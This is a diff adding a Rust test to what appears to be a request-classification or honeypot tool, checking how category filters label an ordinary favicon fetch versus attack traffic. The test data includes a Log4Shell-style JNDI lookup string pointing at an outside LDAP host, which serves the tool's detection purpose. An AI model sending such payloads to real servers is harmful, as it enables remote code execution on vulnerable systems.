@@ -120,6 +120,25 @@ fn a_source_is_asked_for_as_it_is_shown() {
 }
 
 #[test]
+fn an_attack_by_a_program_that_names_itself_is_not_ordinary() {
+    let head = " HTTP/1.1\r\nHost: 192.0.2.1\r\nUser-Agent: Go-http-client/1.1\r\n\r\n";
+    let visit = format!("GET /favicon.ico{head}");
+    let attack = format!("GET /?x=${{jndi:ldap://198.51.100.1/a}}{head}");
+    let nameless = b"GET /f3a9 HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n";
+    let labels = entry(record(attack.as_bytes())).labels;
+    let is_ordinary = |category| category == forever200_identify::Category::Ordinary;
+    assert!(labels.iter().any(|it| is_ordinary(it.signature.category)));
+    for (raw, met) in [
+        (visit.as_bytes(), true),
+        (attack.as_bytes(), false),
+        (nameless, false),
+    ] {
+        assert_eq!(matches(asked(&[("category", "ordinary")]), raw), met);
+        assert_eq!(matches(asked(&[("-category", "ordinary")]), raw), !met);
+    }
+}
+
+#[test]
 fn labels_and_origin_are_conditions() {
     let raw = b"GET /?x=${jndi:ldap://198.51.100.1/a} HTTP/1.1\r\n\r\n";
     let origin = Origin {
